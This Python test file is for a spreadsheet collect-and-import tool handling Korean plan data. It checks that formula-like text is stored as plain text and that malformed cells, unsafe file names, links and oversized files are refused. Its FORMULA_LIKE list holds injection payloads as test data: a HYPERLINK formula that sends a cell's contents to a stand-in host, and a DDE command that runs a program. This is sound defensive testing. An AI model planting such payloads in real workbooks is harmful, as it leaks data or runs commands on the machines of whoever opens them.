"""Issue 25, parts 2 and 4: what collect writes stays data, and import reads only what the sheet shows."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from .test_sheets import BOOKS, PROJECTS, invoke, office, write_plan

__all__ = ["office"]  # the fixture, shared with the round-trip tests

FORMULA_LIKE = ['=HYPERLINK("http://x?d="&A1,"x")', "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1)", "#N/A", "_x000D_"]


def _project_with(name: str, department: str = "가과", project: str = "1-1-1") -> dict[str, str]:
    text = PROJECTS[project].replace("{ko: 방문 수, en: Visits}", "{ko: " + _quoted(name) + ", en: Visits}")
    return {**PROJECTS, project: text.replace("{ko: 가과, en: Division A}", "{ko: " + _quoted(department) + ", en: A}")}


def _quoted(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # a JSON string is a YAML double-quoted one


def _collect(tmp_path: Path, projects: dict[str, str], *more: str):  # type: ignore[no-untyped-def]
    write_plan(tmp_path, projects)
    return invoke("collect", "sheets", "2024", *more)


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_plan_text_that_looks_like_a_formula_is_written_as_text_and_read_back_exactly(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    monkeypatch.chdir(tmp_path)
    result = _collect(tmp_path, _project_with(text), "--deadline", text)
    assert result.exit_code == 0, result.output
    for data_only in (False, True):
        book = load_workbook(BOOKS / "가과.xlsx", data_only=data_only)
        name, deadline = book["성과지표"]["F3"], book["안내"]["B4"]
        assert (name.value.replace("_x005F_", "_"), name.data_type) == (text, "s")  # the sheet's escaped "_"
        assert (deadline.value.replace("_x005F_", "_"), deadline.data_type) == (text, "s")
    raw = (BOOKS / "가과.xlsx").read_bytes()
    assert b"<f>" not in raw  # no formula anywhere in the file


@pytest.mark.usefixtures("office")
@pytest.mark.parametrize("text", [*FORMULA_LIKE, "_x0041_ and _x005F_", "줄 하나\n줄 둘"])
def test_formula_like_results_text_goes_through_collect_and_import_unchanged(text: str) -> None:
    """The round trip through plansite's own reader: a narrative already in the results is written into its input
    cell as text, and the untouched workbook reads back as the same text (no change, no overwrite)."""
    path = Path("results/sheets/2024/projects/1-1-1.yaml")
    narrative = "    narrative: {ko: " + _quoted(text) + "}\n"
    path.write_text(path.read_text(encoding="utf-8").replace("    actual: null\n", narrative, 1), encoding="utf-8")
    before = path.read_bytes()
    assert invoke("collect", "sheets", "2024", "--out", "again").exit_code == 0
    cell = load_workbook("again/가과.xlsx")["성과지표"]["M3"]
    assert cell.data_type == "s" and cell.value.replace("_x005F_", "_") == text
    result = _import("again/가과.xlsx")
    assert result.exit_code == 0, result.output
    assert path.read_bytes() == before


@pytest.mark.usefixtures("office")
def test_a_text_longer_than_a_cell_holds_is_refused_not_cut_short() -> None:
    path = Path("results/sheets/2024/projects/1-1-1.yaml")
    narrative = "    narrative: {ko: " + "가" * 40000 + "}\n"
    path.write_text(path.read_text(encoding="utf-8").replace("    actual: null\n", narrative, 1), encoding="utf-8")
    result = invoke("collect", "sheets", "2024", "--out", "again")
    assert result.exit_code == 2 and "longer than the 32767 characters a cell holds" in result.output, result.output
    assert not Path("again").exists()


@pytest.mark.parametrize(
    ("first", "second", "message"),
    [
        ("안전:지원과", "안전/지원과", "would share one workbook (안전_지원과.xlsx"),
        ("Team", "team", "would share one workbook"),
        ("index", "나과", "would share one workbook (index.xlsx"),
    ],
)
def test_departments_sharing_a_file_name_are_refused_before_anything_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, first: str, second: str, message: str
) -> None:
    monkeypatch.chdir(tmp_path)
    projects = _project_with("방문 수", first)
    projects["1-1-2"] = projects["1-1-2"].replace("{ko: 나과, en: Division B}", "{ko: " + _quoted(second) + ", en: B}")
    result = _collect(tmp_path, projects)
    assert result.exit_code != 0 and message in result.output, result.output
    assert not Path("workbooks").exists()


@pytest.mark.parametrize(
    ("department", "message"),
    [("...", "gives no visible file name"), ("가" * 80, "too long for a file name"), ("NUL", "a device name")],
)
def test_a_hidden_long_or_device_file_name_is_refused_before_anything_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, department: str, message: str
) -> None:
    monkeypatch.chdir(tmp_path)
    result = _collect(tmp_path, _project_with("방문 수", department))
    assert result.exit_code != 0 and message in result.output, result.output
    assert "Traceback" not in result.output and not Path("workbooks").exists()


@pytest.mark.parametrize("out", ["plans/sheets/books", "results", "plans"])
def test_out_inside_the_data_folders_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, out: str) -> None:
    monkeypatch.chdir(tmp_path)
    write_plan(tmp_path)
    before = sorted(str(p) for p in tmp_path.rglob("*"))
    result = invoke("collect", "sheets", "2024", "--out", out)
    assert result.exit_code != 0 and "workbooks are not written inside a data folder" in result.output
    assert sorted(str(p) for p in tmp_path.rglob("*")) == before


def test_collect_writes_all_workbooks_or_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "books").mkdir()
    (tmp_path / "books" / "나과.xlsx").write_bytes(b"filled in")  # the second workbook is taken
    result = _collect(tmp_path, PROJECTS, "--out", "books")
    assert result.exit_code != 0 and "exists, so nothing was written" in result.output
    assert sorted(p.name for p in (tmp_path / "books").iterdir()) == ["나과.xlsx"]
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no staging left behind
    (tmp_path / "books" / "나과.xlsx").unlink()
    assert invoke("collect", "sheets", "2024", "--out", "books").exit_code == 0
    assert sorted(p.name for p in (tmp_path / "books").iterdir()) == ["index.xlsx", "가과.xlsx", "나과.xlsx"]


# Part 2: cells mean what the sheet shows.


def _import(*paths: Path | str):  # type: ignore[no-untyped-def]
    return invoke("import", "sheets", "2024", *map(str, paths))


def _refused(path: Path | str, *expected: str) -> None:
    before = {p: p.read_bytes() for p in Path("results").rglob("*.yaml")}
    result = _import(path)
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    for text in expected:
        assert text in result.output, result.output
    assert {p: p.read_bytes() for p in Path("results").rglob("*.yaml")} == before


def _raw_cell(name: str, coordinate: str, xml: str) -> Path:
    """A copy of a collected workbook whose `coordinate` on the indicator sheet is the raw XML `xml` (what openpyxl
    would not write: a 400-digit number, an array formula without its value, a text with escapes)."""
    import zipfile

    path = Path(name)
    book = load_workbook(BOOKS / "가과.xlsx")
    book["성과지표"][coordinate] = "PLACEHOLDER"
    book.save(path)
    with zipfile.ZipFile(path) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    sheet = next(part for part, data in parts.items() if b"PLACEHOLDER" in data)
    data = parts[sheet].decode()
    start = data.index(f'<c r="{coordinate}"')
    end = data.index("</c>", start) + len("</c>")
    style = data[start:end].split('s="')[1].split('"')[0]
    parts[sheet] = (data[:start] + f'<c r="{coordinate}" s="{style}"{xml}' + data[end:]).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for part, content in parts.items():
            archive.writestr(part, content)
    return path


@pytest.mark.usefixtures("office")
@pytest.mark.parametrize(
    ("xml", "expected"),
    [
        ("><v>" + "9" * 400 + "</v></c>", "I3: the number 999999999999… (400 digits) is too large"),
        ("><v>1e400</v></c>", "I3: the number inf is too large"),
        ("><v>9007199254740993</v></c>", "I3: the number 9007199254740993 is too large"),
        (' t="str"><v>' + "9" * 400 + "</v></c>", "I3: the number 999999999999… (400 digits) is too large"),
        (' t="e"><v>#N/A</v></c>', "I3: the cell holds an error value: #N/A"),
        (' t="b"><v>1</v></c>', "I3: the cell holds a truth value: TRUE"),
        ('><f t="array" ref="I3">SUM(1)</f></c>', "I3: the cell holds a formula whose value was not saved"),
        ("><f>SUM(1)</f><v></v></c>", "I3: the cell holds a formula whose value was not saved"),
    ],
)
def test_a_figure_cell_is_read_as_the_sheet_shows_it_or_refused_naming_its_cell(xml: str, expected: str) -> None:
    _refused(_raw_cell("raw.xlsx", "I3", xml), "raw.xlsx:성과지표!" + expected)


@pytest.mark.usefixtures("office")
@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            "１２００",
            "digits of another script (full-width or the like): '１２００' — write it in the digits 0-9: 1200",
        ),
        ("١٢٠٠", "digits of another script (full-width or the like): '١٢٠٠' — write it in the digits 0-9: 1200"),
        ("1２0０", "digits of another script (full-width or the like): '1２0０' — write it in the digits 0-9: 1200"),
        ("12" * 20, "the number 121212121212… (40 digits) is too large"),
    ],
)
def test_figures_typed_as_text_are_plain_ascii_decimals(value: str, expected: str) -> None:
    path = Path("typed.xlsx")
    book = load_workbook(BOOKS / "가과.xlsx")
    book["성과지표"]["I3"] = value
    book.save(path)
    _refused(path, "typed.xlsx:성과지표!I3: " + expected)


@pytest.mark.usefixtures("office")
@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("#N/A", "M3: the cell holds an error value: #N/A"),
        (True, "M3: the cell holds a truth value: TRUE"),
        ("DATE", "M3: the cell holds a date or time: 2024-03-01 00:00:00"),
        ("a_x001B_b", "M3: "),
        ("a_x0000_b", "M3: "),
    ],
)
def test_a_text_cell_holding_an_error_truth_value_date_or_control_character_is_refused(
    value: object, expected: str
) -> None:
    import datetime

    path = Path("text.xlsx")
    book = load_workbook(BOOKS / "가과.xlsx")
    book["성과지표"]["M3"] = datetime.datetime(2024, 3, 1) if value == "DATE" else value
    book.save(path)
    _refused(path, "text.xlsx:성과지표!" + expected)


@pytest.mark.usefixtures("office")
def test_the_sheet_s_escapes_are_decoded() -> None:
    path = Path("escaped.xlsx")
    book = load_workbook(BOOKS / "가과.xlsx")
    book["성과지표"]["M3"] = "첫 줄_x000D_\n둘째 줄 _x005F_x0041_"
    book.save(path)
    result = _import(path)
    assert result.exit_code == 0, result.output
    text = Path("results/sheets/2024/projects/1-1-1.yaml").read_text(encoding="utf-8")
    import yaml

    narrative = yaml.safe_load(text)["indicators"][0]["narrative"]
    assert narrative == {"ko": "첫 줄\n둘째 줄 _x0041_"}


@pytest.mark.usefixtures("office")
def test_formula_like_plan_text_survives_collect_and_import_unchanged() -> None:
    path = Path("formulas.xlsx")
    book = load_workbook(BOOKS / "가과.xlsx")
    book["성과지표"]["M3"] = "=1+1"  # typed by a department as a formula: openpyxl stores it without a value
    book.save(path)
    _refused(path, "M3: the cell holds a formula whose value was not saved")


@pytest.mark.usefixtures("office")
def test_chart_sheets_where_a_worksheet_is_expected_or_added_give_no_traceback() -> None:
    from openpyxl.chart import BarChart, Reference

    for name, change in (
        ("meta.xlsx", lambda book: (book.remove(book["plansite"]), book.create_chartsheet("plansite"))),
        ("rows.xlsx", lambda book: (book.remove(book["성과지표"]), book.create_chartsheet("성과지표", 1))),
        ("extra.xlsx", lambda book: book.create_chartsheet("차트")),
    ):
        book = load_workbook(BOOKS / "가과.xlsx")
        change(book)
        book.save(name)
        _refused(name, f"{name}:1:1: a part of this workbook cannot be read (AttributeError)")
    # With a chart in it, openpyxl reads a chart sheet: it is named, not taken for the sheet of cells.
    for name, title, message in (
        ("meta2.xlsx", "plansite", "this workbook was not written by plansite collect"),
        ("rows2.xlsx", "성과지표", "the sheet (성과지표) is not a sheet of cells"),
    ):
        book = load_workbook(BOOKS / "가과.xlsx")
        index = book.sheetnames.index(title)
        book.remove(book[title])
        chart = BarChart()
        chart.add_data(Reference(book["예산집행"], min_col=5, min_row=3, max_row=3))
        book.create_chartsheet(title, index).add_chart(chart)
        book.save(name)
        _refused(name, message)


@pytest.mark.usefixtures("office")
def test_only_a_regular_file_of_a_sane_size_is_read() -> None:
    import os

    os.mkfifo("pipe.xlsx")
    _refused("pipe.xlsx", "pipe.xlsx:1:1: this is not a regular file")
    _refused("/dev/zero", "this is not a regular file")
    Path("zero.xlsx").symlink_to("/dev/zero")
    _refused("zero.xlsx", "zero.xlsx:1:1: this is a link, so it was not read")
    Path("copy.xlsx").symlink_to((BOOKS / "가과.xlsx").resolve())
    _refused("copy.xlsx", "this is a link, so it was not read")
    with open("big.xlsx", "wb") as file:
        file.truncate(21 * 1024 * 1024)
    _refused("big.xlsx", "larger than 20 MiB")


# Part 3: the rewrite touches only the changed values' lines.

RESULTS = Path("results/sheets/2024/projects/1-1-1.yaml")
LONG = "긴 설명 " * 700  # a neighbouring line far longer than any dumper's width


def _layouts() -> dict[str, Any]:
    def four_spaces(text: str) -> str:
        return text.replace("\n    ", "\n      ").replace("\n  - ", "\n    - ")

    return {
        "plain": lambda text: text,
        "crlf": lambda text: text.replace("\n", "\r\n"),
        "bom": lambda text: "\ufeff" + text,
        "four-space indents": four_spaces,
        "document markers": lambda text: "---\n" + text + "...\n",
        "odd spacing and quoting": lambda text: text.replace("status: evaluated", "status :   'evaluated'").replace(
            "project: 1-1-1", 'project:   "1-1-1"'
        ),
        "long neighbouring line": lambda text: text.replace(
            "  - indicator: 1-1-1-2  # 누적 회원; target 50명\n",
            "  - indicator: 1-1-1-2  # 누적 회원; target 50명\n    narrative: {ko: " + LONG.strip() + "}\n",
        ),
        "no final line break": lambda text: text.rstrip("\n"),
        "block narrative": lambda text: text.replace(
            "  - indicator: 1-1-1-2  # 누적 회원; target 50명\n",
            "  - indicator: 1-1-1-2  # 누적 회원; target 50명\n    narrative:\n      ko: |\n        첫 줄\n"
            "        둘째 줄\n",
        ),
    }


def _changed(before: str, after: str) -> tuple[set[int], list[str]]:
    """The 0-based numbers of the lines of `before` that the change removed or replaced, and the lines it added."""
    import difflib

    assert before.endswith("\n") == after.endswith("\n")  # a file without a final line break keeps it so
    if not before.endswith("\n"):  # compare as lines: the last one gets a line break when a line follows it
        before, after = before + "\n", after + "\n"
    old, new = before.splitlines(True), after.splitlines(True)
    removed: set[int] = set()
    added: list[str] = []
    for tag, i1, i2, j1, j2 in difflib.SequenceMatcher(a=old, b=new, autojunk=False).get_opcodes():
        if tag != "equal":
            removed |= set(range(i1, i2))
            added += new[j1:j2]
    return removed, added


def _value_lines(text: str, changes: dict[tuple[str, str], Any]) -> set[int]:
    """The lines of the values `changes` names that `text` already holds (a value new to the file has none)."""
    import yaml

    root = yaml.compose(text.lstrip("\ufeff"), Loader=yaml.SafeLoader)
    lines: set[int] = set()
    for key_node, value_node in root.value:
        if key_node.value == "indicators":
            for item in value_node.value:
                pairs = {k.value: (k, v) for k, v in item.value}
                for key, (k, v) in pairs.items():
                    if (pairs["indicator"][1].value, key) in changes:
                        while isinstance(v, yaml.MappingNode) and not v.flow_style:
                            v = v.value[-1][1]  # a block mapping ends where its last value does
                        last = v.end_mark.line - (v.end_mark.column == 0 and v.end_mark.line > k.start_mark.line)
                        lines |= set(range(k.start_mark.line, last + 1))
        elif ("", key_node.value) in changes:
            lines.add(key_node.start_mark.line)
    return lines


@pytest.mark.usefixtures("office")
@pytest.mark.parametrize("layout", list(_layouts()))
def test_an_untouched_workbook_changes_no_byte_whatever_the_layout(layout: str) -> None:
    text = _layouts()[layout](RESULTS.read_text(encoding="utf-8"))
    RESULTS.write_bytes(text.encode("utf-8"))
    result = invoke("collect", "sheets", "2024", "--out", "again")
    assert result.exit_code == 0, result.output
    result = _import("again/가과.xlsx")
    assert result.exit_code == 0, result.output
    assert RESULTS.read_bytes() == text.encode("utf-8")


@pytest.mark.usefixtures("office")
@pytest.mark.parametrize("layout", list(_layouts()))
def test_an_import_changes_only_the_changed_values_lines_whatever_the_layout(layout: str) -> None:
    import yaml

    text = _layouts()[layout](RESULTS.read_text(encoding="utf-8"))
    RESULTS.write_bytes(text.encode("utf-8"))
    assert invoke("collect", "sheets", "2024", "--out", "again").exit_code == 0
    fill_path = Path("again/가과.xlsx")
    book = load_workbook(fill_path)
    book["성과지표"]["I3"], book["성과지표"]["M4"], book["예산집행"]["E3"] = 105, "새 설명", 10
    book.save(fill_path)
    result = _import(fill_path, "--update")
    assert result.exit_code == 0, result.output
    after = RESULTS.read_bytes().decode("utf-8")
    changes = {("1-1-1-1", "actual"): 105, ("1-1-1-2", "narrative"): 1, ("", "budget"): 1}
    removed, added = _changed(text, after)
    assert removed == _value_lines(text, changes), (removed, added)
    assert len(added) == 3 and all(line.endswith("\r\n" if layout == "crlf" else "\n") for line in added)
    data = yaml.safe_load(after.lstrip("\ufeff"))
    assert data["budget"] == {"budget": 10}
    assert data["indicators"][0]["actual"] == 105 and data["indicators"][1]["narrative"] == {"ko": "새 설명"}


@pytest.mark.fuzz  # Hypothesis inside: the hook sees only the outer test
@pytest.mark.usefixtures("office")
def test_random_edits_of_random_cells_change_exactly_those_values_lines() -> None:
    """Property (60 examples): a collected workbook with random cells edited gives a results diff of exactly the
    edited values' lines, in any of the layouts above, and the file holds the edited values."""
    import yaml
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    original = RESULTS.read_text(encoding="utf-8")
    layouts = _layouts()
    fresh = {}  # each layout's workbook as collect writes it from that file
    for number, (name, layout) in enumerate(layouts.items()):
        RESULTS.write_bytes(layout(original).encode("utf-8"))
        assert invoke("collect", "sheets", "2024", "--out", f"fresh{number}").exit_code == 0
        fresh[name] = Path(f"fresh{number}/가과.xlsx").read_bytes()
    texts = st.text(st.characters(codec="utf-8", categories=("L", "N", "P", "Zs")), min_size=1, max_size=30).filter(
        lambda s: s.strip() == s and not s.startswith(("=", "+", "-", "@", "#"))
    )
    figures = st.integers(min_value=0, max_value=10**9) | st.sampled_from([0.5, 12.25, 9.5])
    cells = {
        ("1-1-1-1", "actual", "I3"): figures,
        ("1-1-1-2", "actual", "I4"): figures,
        ("1-1-1-3", "actual", "I5"): figures,
        ("1-1-1-1", "narrative", "M3"): texts,
        ("1-1-1-2", "narrative", "M4"): texts,
        ("1-1-1-3", "reason", "K5"): texts,
        ("", "budget", "E3"): figures,
    }

    @settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
    @given(
        layout=st.sampled_from(sorted(layouts)),
        edits=st.fixed_dictionaries({}, optional={key: strategy for key, strategy in cells.items()}),
    )
    def check(layout: str, edits: dict[tuple[str, str, str], Any]) -> None:
        before = layouts[layout](original)
        RESULTS.write_bytes(before.encode("utf-8"))
        Path("edited.xlsx").write_bytes(fresh[layout])
        book = load_workbook("edited.xlsx")
        for (_, key, cell), value in edits.items():
            book["예산집행" if key == "budget" else "성과지표"][cell] = value
        book.save("edited.xlsx")
        result = _import("edited.xlsx", "--update")
        if result.exit_code != 0:  # a rule of the data (a figure that is not whole for a count, say) is not ours
            assert "Traceback" not in result.output and RESULTS.read_bytes() == before.encode("utf-8")
            return
        after = RESULTS.read_bytes().decode("utf-8")
        data = yaml.safe_load(after.lstrip("\ufeff"))
        old = yaml.safe_load(before.lstrip("\ufeff"))
        changed = {}
        for (indicator, key, _), value in edits.items():
            if indicator == "":
                changed[("", "budget")] = value
                assert data["budget"] == {"budget": value}
                continue
            entry = next(e for e in data["indicators"] if e["indicator"] == indicator)
            was = next(e for e in old["indicators"] if e["indicator"] == indicator)
            written = entry[key] if key == "actual" else entry[key]["ko"]
            assert written == value
            if was.get(key) != entry[key]:
                changed[(indicator, key)] = value
        removed, added = _changed(before, after)
        assert removed == _value_lines(before, changed), (layout, edits, removed, added)
        assert len(added) == len(changed), (layout, edits, added)

    check()


def test_a_multi_line_indicator_name_imports_and_its_results_file_reads_back(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The results files an import starts from (new-year's text) quote the name safely, so a line break in an
    indicator's name neither breaks the file nor the import."""
    from generator.data.validate import validate_path

    monkeypatch.chdir(tmp_path)
    result = _collect(tmp_path, _project_with("방문\n수"))
    assert result.exit_code == 0, result.output
    result = _import(BOOKS / "가과.xlsx")
    assert result.exit_code == 0, result.output
    report = validate_path(Path("plans"), Path("results"))
    assert report.errors == []
    [plan] = report.plans
    assert plan.projects[0].indicators[0].name.ko == "방문\n수"


def test_an_import_that_fails_while_putting_files_in_place_leaves_every_file_as_it_was(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """All or nothing: the second replacement fails, so the first file gets its old text back and the new file
    and its new folder go."""
    import os

    from generator.data import paths
    from generator.sheets import importing

    kept = tmp_path / "results" / "a.yaml"
    kept.parent.mkdir(parents=True)
    kept.write_text("old: 1\n", encoding="utf-8")
    kept.chmod(0o640)
    fresh = tmp_path / "results" / "new" / "b.yaml"
    real_replace = os.replace
    calls: list[str] = []

    def failing(source: object, target: object) -> None:
        calls.append(str(target))
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        real_replace(source, target)  # type: ignore[arg-type]

    monkeypatch.setattr(paths.os, "replace", failing)
    with pytest.raises(OSError, match="No space left"):
        importing.write_import({kept: "old: 2\n", fresh: "new: 1\n"})
    monkeypatch.setattr(paths.os, "replace", real_replace)
    assert kept.read_text(encoding="utf-8") == "old: 1\n"
    importing.write_import({kept: "old: 2\n"})  # and when nothing fails, the file keeps its permissions
    assert kept.read_text(encoding="utf-8") == "old: 2\n" and kept.stat().st_mode & 0o777 == 0o640
    assert sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")) == ["results", "results/a.yaml"]
